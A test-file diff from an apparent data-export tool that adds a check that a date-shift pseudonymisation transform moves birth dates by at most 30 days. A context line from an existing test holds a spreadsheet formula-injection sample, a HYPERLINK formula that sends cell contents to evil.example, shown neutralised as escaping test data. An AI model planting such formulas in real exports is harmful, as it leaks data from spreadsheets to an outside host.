@@ -419,3 +419,47 @@ retention: P7D
     'id,subject\r\n1,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"\r\n2,\'@SUM(A1:A9)\r\n3,refund -12.5\r\n4,-12.5\r\n',
   );
 });
+
+test('date_shift runs in the pipeline with the record id as subject', async () => {
+  const file = join(t.dir, 'shifted.yaml');
+  await writeFile(
+    file,
+    `apiVersion: waybill/v1
+kind: ExportDefinition
+name: shifted
+owner: team:research
+purposes: [research]
+source: { connection: demo-crm, table: customers }
+fields:
+  - { name: id, from: id }
+  - { name: born, from: birth_date, transform: { type: date_shift, days: 30, key: demo-pseudonyms } }
+destination: { connection: demo-exports, path: '{name}/{runId}' }
+format: ndjson
+retention: P7D
+`,
+  );
+  const applied = await cli(['--home', t.home, 'def', 'apply', file]);
+  assert.equal(applied.code, 0, applied.stderr);
+  const r = await requestApproveRun(t.home, 'shifted', 'research', '--json');
+  assert.equal(r.code, 0, r.stderr);
+  const lines = (
+    await readFile(join((JSON.parse(r.stdout) as { location: string }).location, 'shifted.ndjson'), 'utf8')
+  )
+    .trim()
+    .split('\n');
+  const db = new Database(crm, { readonly: true });
+  const born = new Map(
+    (db.prepare('SELECT id, birth_date FROM customers').all() as { id: number; birth_date: string }[]).map(
+      (x) => [x.id, x.birth_date],
+    ),
+  );
+  db.close();
+  let moved = 0;
+  for (const line of lines.slice(0, 200)) {
+    const o = JSON.parse(line) as { id: number; born: string };
+    const days = (Date.parse(o.born) - Date.parse(born.get(o.id)!)) / 86_400_000;
+    assert.ok(Math.abs(days) <= 30, `${days}`);
+    if (days !== 0) moved++;
+  }
+  assert.ok(moved > 150);
+});
